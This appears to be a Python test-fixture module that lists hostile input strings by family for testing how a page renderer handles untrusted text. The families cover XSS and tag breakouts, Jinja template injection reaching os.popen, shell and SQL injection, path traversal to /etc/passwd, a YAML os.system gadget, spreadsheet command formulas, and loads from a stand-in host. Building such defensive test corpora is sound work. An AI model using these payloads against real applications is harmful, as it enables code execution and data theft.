r"""Text that a stranger may write into any free field, by what it tries.

Each string would leave a trace if it ran: in Python it puts ``RESIGHT_OWNED`` into the environment or makes a file
``owned`` in the working directory, in a browser it sets ``owned`` on the window, changes the title, opens a dialog or
asks for an address. The families:

``html``      elements and handlers that run when markup is read
``ends``      what ends the element or comment that the page's data stand in
``attribute`` what leaves a quoted or bare attribute
``script``    what leaves a JavaScript string or runs in a template literal
``jinja``     templates, which branca renders a second time, and the expressions that reach Python's modules
``formats``   other ways to fill in a text: format strings, shell, SQL, paths, percent-encoding
``css``       what runs or loads out of a style
``address``   addresses that are no web address, with the tricks that hide their scheme
``formula``   what a spreadsheet runs
``json``      what breaks a JSON text or its reader
``direction`` marks that turn the direction of writing, and text written from right to left
``unseen``    zero-width and other invisible characters
``control``   control characters, NUL among them, and the unpaired halves of none
``heavy``     storms of accents, words without an end, emoji made of many

Text with an unpaired surrogate is kept apart: it cannot stand in a file, and is refused at entry.
"""

from __future__ import annotations

from collections.abc import Mapping

_PYTHON = "__import__('os').environ.__setitem__('RESIGHT_OWNED', '1')"
_GLOBALS = "__init__.__globals__"
FAMILIES: Mapping[str, tuple[str, ...]] = {
    "html": (
        "<script>window.owned=1</script>",
        "<SCRIPT SRC=//owned.example/x.js></SCRIPT>",
        "<scr<script>ipt>owned=1</scr</script>ipt>",
        '<img src=x onerror="window.owned=1">',
        "<img src=`x`onerror=owned=1>",
        "<svg onload=owned=1>",
        "<svg><script>owned=1</script></svg>",
        "<svg><animate onbegin=owned=1 attributeName=x dur=1s>",
        "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
        "<iframe src=javascript:parent.owned=1>",
        "<body onload=owned=1>",
        "<input autofocus onfocus=owned=1>",
        "<details open ontoggle=owned=1>",
        "<video><source onerror=owned=1></video>",
        "<object data=data:text/html,<script>owned=1</script>></object>",
        "<embed src=//owned.example/x.swf>",
        "<base href=//owned.example/>",
        "<meta http-equiv=refresh content='0;url=//owned.example/'>",
        "<link rel=stylesheet href=//owned.example/x.css>",
        "<form action=//owned.example/><button>owned</button></form>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=owned=1>'>",
        "<template><script>owned=1</script></template>",
        "<a href=javascript:owned=1>owned</a>",
        "&lt;script&gt;owned=1&lt;/script&gt;",
        "&#60;script&#62;owned=1&#60;/script&#62;",
        "&amp;amp; & &copy &nosuch; &#x110000;",
        "＜script＞owned=1＜/script＞",
        "\u02bcscript\u02bc ‹img src=x onerror=owned=1›",
        "<img id=resight name=data><a id=records>",
    ),
    "ends": (
        "</script><script>window.owned=1</script>",
        "</SCRIPT ><script>owned=1</script>",
        "</script\n><img src=x onerror=owned=1>",
        "<!-- <script>",
        "<!--><script>owned=1</script>-->",
        "--><script>owned=1</script><!--",
        "]]><script>owned=1</script>",
        "<![CDATA[<script>owned=1</script>",
        "</title><script>owned=1</script>",
        "</style><script>owned=1</script>",
        "</textarea></noscript></template><img src=x onerror=owned=1>",
        "<?php system('touch owned'); ?>",
        "<% owned %> <%= owned %>",
    ),
    "attribute": (
        '" onmouseover="owned=1" x="',
        "' onfocus='owned=1' autofocus tabindex=0 x='",
        "`><img src=x onerror=owned=1>",
        "x onclick=owned=1 style=position:fixed;inset:0",
        '"><svg/onload=owned=1>',
        "&quot; onload=owned=1",
    ),
    "script": (
        "${window.owned=1}",
        "`${(() => { window.owned = 1 })()}`",
        "`;window.owned=1;`",
        "';window.owned=1;//",
        '";window.owned=1;//',
        "\\';window.owned=1;//",
        "C:\\users\\new\\x41\\u0041",
        "\\u003cscript\\u003eowned=1\\u003c/script\\u003e",
        "\\x3cscript\\x3eowned=1",
        "*/owned=1/*",
        "__proto__",
        "constructor",
        "toString",
        "map_0123456789abcdef0123456789abcdef",
    ),
    "jinja": (
        "{{ 7*7 }}",
        "{{7*'7'}}",
        "{% for x in () %}{% endfor %}50{% off",
        "{# gone #} {# 1",
        "{{ nosuch.nosuch.nosuch }}",
        "{% raw %}{% endraw",
        "{% include '/etc/passwd' %}",
        "{% import os %}",
        "{%- set x = 1 -%}",
        "{{ '}}' }}",
        f"{{{{ cycler.{_GLOBALS}.os.environ.__setitem__('RESIGHT_OWNED', '1') }}}}",
        f"{{{{ self.{_GLOBALS}.__builtins__.{_PYTHON} }}}}",
        "{{ lipsum.__globals__['os'].popen('touch owned').read() }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        f"{{{{ this._parent.{_GLOBALS} }}}}",
        "{% macro script(this, kwargs) %}window.owned=1{% endmacro %}",
        "{{ kwargs.clear() }}",
        "{%",
        "{{",
        "}}",
    ),
    "formats": (
        "{policy}{title}{data}{0}{}",
        "{0.__class__.__init__.__globals__}",
        "%s%d%n%(owned)s",
        "%3Cscript%3Eowned=1%3C/script%3E",
        "%00%0d%0aSet-Cookie:owned=1",
        "$(touch owned)",
        "`touch owned`",
        "; touch owned #",
        "| touch owned",
        "'; DROP TABLE records;--",
        "' OR '1'='1",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/dev/null",
        "CON",
        "*(&(|(cn=*",
        _PYTHON,
        "!!python/object/apply:os.system ['touch owned']",
    ),
    "css": (
        "</style><style>*{display:none}</style>",
        "background:url(//owned.example/x.png)",
        "expression(owned=1)",
        "@import '//owned.example/x.css';",
        "} body { display: none } {",
        'url("javascript:owned=1")',
    ),
    "address": (
        "javascript:window.owned=1",
        "JaVaScRiPt:window.owned=1",
        "java\tscript:window.owned=1",
        "java\nscript:window.owned=1",
        "\x01javascript:window.owned=1",
        "javascript&colon;window.owned=1",
        "&#106;avascript:window.owned=1",
        "javascript://https://example.org/%0awindow.owned=1",
        "data:text/html,<script>owned=1</script>",
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Im93bmVkPTEiLz4=",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "//owned.example/x",
        "\\\\owned.example\\x",
        "blob:https://owned.example/x",
        "https://owned.example\\@example.org",
        "https://example.org@owned.example/",
        'https://example.org/" onclick="owned=1',
        "https://example.org/<script>owned=1</script>",
        "http:javascript:owned=1",
    ),
    "formula": (
        '=HYPERLINK("//owned.example","x")',
        "=cmd|' /C touch owned'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "＝1+1",
        "a\t=1+1",
        "a\r\n=1+1",
    ),
    "json": (
        "a\u2028b\u2029c",
        '","owned":true,"',
        '"}]}</script>',
        "\\",
        '\\"',
        "\\u0000",
        "NaN, Infinity, -Infinity",
        "null",
        "[object Object]",
    ),
    "direction": (
        "\u202egnp.exe\u202c",
        "a \u202d\u202e\u202a\u202b left open",
        "a \u2066\u2067\u2068 left open",
        "a\u2069\u202c closed too soon",
        "\u200f\u200e\u061cmarks",
        "سفينة إنزال في الميناء",
        "ספינת נחיתה (רציף 2)",
        "Дунай ‒ 두나이 ‒ 都奈",
    ),
    "unseen": (
        "a\u200bb\u200cc\u200dd\u2060e",
        "\ufeffa\ufeffb",
        "a\u00adb\u034fc\u115fd\u3164e",
        "a\u00a0b\u2003c\u3000d",
        "a\U000e0041\U000e0042b",
        "a\ufffeb\uffffc",
        "a\ue000b\U000f0000c",
        "pаypal with a Cyrillic а",
    ),
    "control": (
        "a\x00b",
        "a\x01\x02\x03\x04\x05\x06\x07b",
        "a\x08\x08b",
        "a\x0b\x0c\x0e\x0fb",
        "a\x1b[2J\x1b]0;owned\x07b",
        "a\x7f\x80\x85\x9b\x9fb",
        "a\tb\nc",
        "a\r\nb\rc",
        "a\ufffdb",
    ),
    "heavy": (
        "Z" + "\u0300\u0316\u0489" * 120 + "a",
        "x" * 500,
        "word " * 99 + "end",
        "👩‍👩‍👧‍👦🏴\U000e0067\U000e0062\U000e007f🇰🇵🇷🇺",
        "ﷺ﷽𒐫" * 40,
        "ﬀ" * 100 + "İıẞ",
        "\U0001f600" * 250,
    ),
}
TEXTS = tuple(text for family in FAMILIES.values() for text in family)
#: Unpaired surrogates: JSON can escape them, Python can hold them, no file in UTF-8 can.
HALVES = ("a\ud800b", "\udfff", "a\udc80\ud83db", "bad byte \udcff")
#: A megabyte, as much as a field of unlimited length may be filled with.
MEGABYTE = "</script>{{ 7*7 }}${owned=1} \u202e" * 30_000
